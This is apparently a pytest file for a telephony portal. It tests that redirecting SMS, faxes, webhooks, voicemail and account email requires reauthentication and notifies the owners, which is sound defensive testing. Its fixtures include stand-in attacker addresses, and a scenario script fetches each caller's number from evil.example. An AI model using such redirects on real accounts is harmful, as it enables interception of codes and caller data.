"""What carries one-time codes away: pages ask first who it is, and by whichever way it is set the owners are mailed."""

from collections.abc import Iterator
from typing import Any

import pytest
from django.test import Client

from accounts.services.accounts import OWN_FIELDS, update_account
from accounts.services.ways_out import TITLE
from common import posting, scope
from common.errors import Invalid
from events.models import Subscription
from events.services.subscriptions import Wish, change_subscription, subscribe
from jobs import work
from jobs.models import Job
from numbers.services.drift import adopt_theirs
from numbers.services.settings import remove_sms_route, set_fax, set_sms_route
from numbers.states import SmsRouteType
from pbx.services.apps import create_app, edit_app
from pbx.services.sip_subscribers import create_subscriber, edit_subscriber
from providers.models import ProviderAccount
from providers.services import add_provider_account, change_provider_account
from support.services.queues import queue_for, save_queue
from support.states import QueuePart
from tests.console import signed_in
from tests.numbers.conftest import HELD, Shop
from tests.people import BY, People
from tests.providers.test_services import GOOD
from tests.signing_in import with_password
from tests.suspended import fingerprint, proved

ASKED = "/user/reauthenticate/"
THIEF = "thief@example.com"
HOOK = {"url": "https://93.184.216.34/in", "events": ["message.received"], "description": "x", "numbers": ""}
APP = {"voicemail": {"active": True, "emails": [THIEF]}}
SCRIPT = """
variables:
  $base: "https://evil.example"
branches:
  inbound-call:
    actions:
      - action: fetch@v1
        params: {url: "${{ $base }}/${{ call.fromNumber }}"}
"""


@pytest.fixture(autouse=True)
def _reachable(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(posting, "ask", lambda *_args, **_options: None)


def told() -> list[tuple[str, list[str]]]:
    """What owners are mailed, the first first."""
    with scope.system():
        rows = Job.objects.filter(kind="portal.owner_mail").order_by("created_at")
        return [(row.payload["title"], row.payload["lines"]) for row in rows]


def told_lines() -> list[str]:
    return [line for title, lines in told() for line in lines if title == TITLE]


@pytest.fixture
def shop(market: Shop) -> Iterator[Shop]:
    """Inside the customer's scope."""
    with scope.tenant(market.customer.pk):
        yield market


@pytest.fixture
def alice(market: Shop) -> Client:
    """Her browser, in which she signed in a while ago."""
    return signed_in(with_password(market.people.alice))


NUMBER = f"/numbers/{HELD[0]}/settings"
PAGES: dict[str, dict[str, Any]] = {
    f"{NUMBER}/sms/": {"type": "email", "resource": THIEF},
    f"{NUMBER}/fax/": {"email": THIEF},
    "/webhooks/new/": HOOK,
    "/sip-phones/": {"username": "thief", "cli": "BLOCKED", "ring_seconds": "30", "voicemail_emails": THIEF},
}


def test_pages_ask_first_who_it_is_and_nothing_is_changed(market: Shop, alice: Client):
    with scope.system():
        before = fingerprint()
    for path, data in PAGES.items():
        answer = alice.post(path, data)
        assert (answer.status_code, answer["Location"].partition("?")[0]) == (302, ASKED), path
    with scope.system():
        assert fingerprint() == before


def test_then_it_is_done_and_the_owners_are_mailed(market: Shop, alice: Client):
    proved(alice)
    for path, data in PAGES.items():
        assert alice.post(path, data).status_code in {200, 302}, path
    assert told() == [
        (TITLE, [f"Messages to (201) 342-2000 go to {THIEF} now."]),
        (TITLE, [f"Faxes to (201) 342-2000 go to {THIEF} now."]),
        (
            "A webhook is told of what happens",
            ["A program at 93.184.216.34 is told of message.received of this account."],
        ),
        (
            "A SIP telephone was added",
            ["Whoever has the password of thief makes and answers calls as the account."],
        ),
        (TITLE, [f"Voicemails of thief go to {THIEF} now."]),
    ]


def test_a_webhooks_address_and_secret_are_changed_by_who_proves_it(market: Shop, alice: Client):
    with scope.tenant(market.customer.pk):
        row = subscribe(account=market.customer, by=BY, wish=Wish(HOOK["url"], ["number.*"])).subscription
    was = Subscription.objects.filter(pk=row.pk).values("url", "secret", "events")
    for path, data in ((f"/webhooks/{row.ref}/edit/", HOOK), (f"/webhooks/{row.ref}/secret/", {})):
        with scope.system():
            before = was.get()
        assert alice.post(path, data)["Location"].startswith(ASKED), path
        with scope.system():
            assert was.get() == before
    proved(alice)
    assert alice.post(f"/webhooks/{row.ref}/edit/", HOOK).status_code == 302
    assert alice.post(f"/webhooks/{row.ref}/secret/").status_code == 200
    assert [title for title, _ in told()][1:] == [
        "A webhook is told of what happens",
        "A webhook has a new secret",
    ]


def test_owners_hear_of_a_wider_webhook_and_not_of_a_narrower_one(shop: Shop):
    def wish(**more: Any) -> Wish:
        return Wish(**{"url": HOOK["url"], "events": ["message.received", "number.*"], **more})

    row = subscribe(account=shop.customer, by=BY, wish=wish()).subscription
    steps = [
        (wish(numbers=[HELD[0]]), 0),
        (wish(numbers=HELD), 1),
        (wish(numbers=HELD, description="other"), 0),
        (wish(), 1),
        (wish(events=["number.*"]), 0),
        (wish(events=["*"]), 1),
        (wish(events=["*"], url="https://93.184.216.34/other"), 1),
        (wish(events=["*"], url="https://93.184.216.34/other", include_below=True), 1),
    ]
    for wanted, more in steps:
        before = len(told())
        change_subscription(account=shop.customer, by=BY, ref=row.ref, wish=wanted)
        assert len(told()) - before == more, wanted
    assert told()[-1][1] == ["A program at 93.184.216.34 is told of * of this account and those below it."]


def test_messages_and_faxes_to_a_new_address_are_told_each_time(shop: Shop):
    target = {"account": shop.customer, "by": BY, "e164": HELD[0], "wait": False}
    for path in ("a", "a", "b"):
        hook = f"https://hooks.example/{path}"
        set_sms_route(**target, type=SmsRouteType.WEBHOOK, target=hook)
    remove_sms_route(**target)
    set_fax(**target, email="fax@example.com")
    assert told_lines() == [
        "Messages to (201) 342-2000 go to a webhook at hooks.example now.",
        "Messages to (201) 342-2000 go to a webhook at hooks.example now.",
        "Faxes to (201) 342-2000 go to fax@example.com now.",
    ]
    assert "hooks.example/" not in str(told())


def test_what_the_carrier_has_is_taken_over_by_who_proves_it(shop: Shop, alice: Client):
    number = shop.number
    number.agreement, number.differences = "drift", ["sms_type", "sms_target"]
    number.reported = {"sms_type": "email", "sms_target": THIEF}
    number.save()
    asked = alice.post("/numbers/drift/adopt-theirs/", {"number": HELD[0]})
    assert asked["Location"].startswith(ASKED)
    number.refresh_from_db()
    assert number.sms_target == ""
    adopt_theirs(account=shop.customer, by=BY, e164=HELD[0])
    assert told_lines() == [f"Messages to (201) 342-2000 go to {THIEF} now."]


@pytest.mark.parametrize(
    ("kind", "settings", "where"),
    [
        ("call_tracking", APP, THIEF),
        ("click_to_call", APP, THIEF),
        ("real_time", {"url": "https://evil.example/secret"}, "a webhook at evil.example"),
        ("scenario", {"script": SCRIPT}, "a webhook at evil.example"),
    ],
)
def test_voice_apps_tell_somebody_new(shop: Shop, kind: str, settings: dict[str, Any], where: str):
    app = create_app(account=shop.customer, by=BY, kind=kind, name="Sales")
    for _ in range(2):
        edit_app(account=shop.customer, by=BY, ref=app.ref, settings=settings)
    create_app(account=shop.customer, by=BY, kind=kind, name="Other", settings=settings)
    assert told_lines() == [
        f"Calls or voicemails of {name} go to {where} now." for name in ("Sales", "Other")
    ]


def test_a_telephones_new_password_and_voicemails_are_told(shop: Shop):
    row = create_subscriber(account=shop.customer, by=BY, wish={"username": "desk"})
    wish = {"voicemail": {"emails": [THIEF]}}
    edit_subscriber(account=shop.customer, by=BY, pk=row.pk, wish=wish, renew_password=True)
    edit_subscriber(account=shop.customer, by=BY, pk=row.pk, wish=wish)
    assert [title for title, _ in told()] == [
        "A SIP telephone was added",
        "The telephone desk has a new password",
        TITLE,
    ]


def test_its_page_shows_the_password_to_who_proves_it(shop: Shop, alice: Client):
    row = create_subscriber(account=shop.customer, by=BY, wish={})
    assert alice.get(f"/sip-phones/{row.pk}/")["Location"].startswith(ASKED)
    assert alice.post(f"/sip-phones/{row.pk}/password/")["Location"].startswith(ASKED)
    assert proved(alice).get(f"/sip-phones/{row.pk}/").status_code == 200


def test_a_queues_notices_go_elsewhere(people: People):
    queue = queue_for(QueuePart.DEFAULT)
    client = signed_in(with_password(people.olivia))
    sent = {"name": "Support", "first_response_minutes": 60, "resolve_minutes": 90, "notify_email": THIEF}
    assert client.post(f"/desk/settings/queues/{queue.pk}", sent)["Location"].startswith(ASKED)
    with scope.system():
        for _ in range(2):
            save_queue(account=people.operator, by=BY, pk=queue.pk, **sent)
    assert told_lines() == [f"Notices of the queue Support go to {THIEF} now."]


def test_a_carriers_secret_is_not_sent_to_another_host(people: People):
    with scope.tenant(people.operator.pk):
        row = add_provider_account(account=people.operator, by=BY, **GOOD)
        with pytest.raises(Invalid) as refusal:
            change_provider_account(
                account=people.operator, by=BY, pk=row.pk, base_url="https://evil.example/"
            )
        assert refusal.value.field == "secret"
        assert ProviderAccount.objects.get(pk=row.pk).base_url == GOOD["base_url"].rstrip("/")
        change_provider_account(account=people.operator, by=BY, pk=row.pk, name="Other")
        change_provider_account(
            account=people.operator, by=BY, pk=row.pk, base_url="https://evil.example/", secret="new"
        )
    assert told() == [
        ("A login at a carrier was added", ["Wholesale calls carrier.example."]),
        ("A login at a carrier was changed", ["Other calls evil.example."]),
    ]
    client = signed_in(with_password(people.olivia))
    assert client.post(f"/carriers/{row.pk}/edit/", {})["Location"].startswith(ASKED)
    assert client.get("/carriers/new/?connector=voicetel")["Location"].startswith(ASKED)


def test_an_accounts_mail_goes_elsewhere_and_the_former_address_hears_of_it(
    market: Shop, alice: Client, mailoutbox: list[Any]
):
    sent = dict(alice.get("/account/").context["form"].initial) | {"email": THIEF}
    sent = {name: value for name, value in sent.items() if value not in (None, False)}
    assert alice.post("/account/change", sent)["Location"].startswith(ASKED)
    with scope.tenant(market.customer.pk):
        update_account(account=market.customer, by=BY, may_change=OWN_FIELDS, email=THIEF)
    with scope.system():
        job = Job.objects.get(kind="portal.owner_mail")
    work.run(job.pk)
    assert sorted(mail.to[0] for mail in mailoutbox) == ["acme@example.com", "alice@example.com"]
    assert "It was acme@example.com, and is thief@example.com now." in mailoutbox[0].body
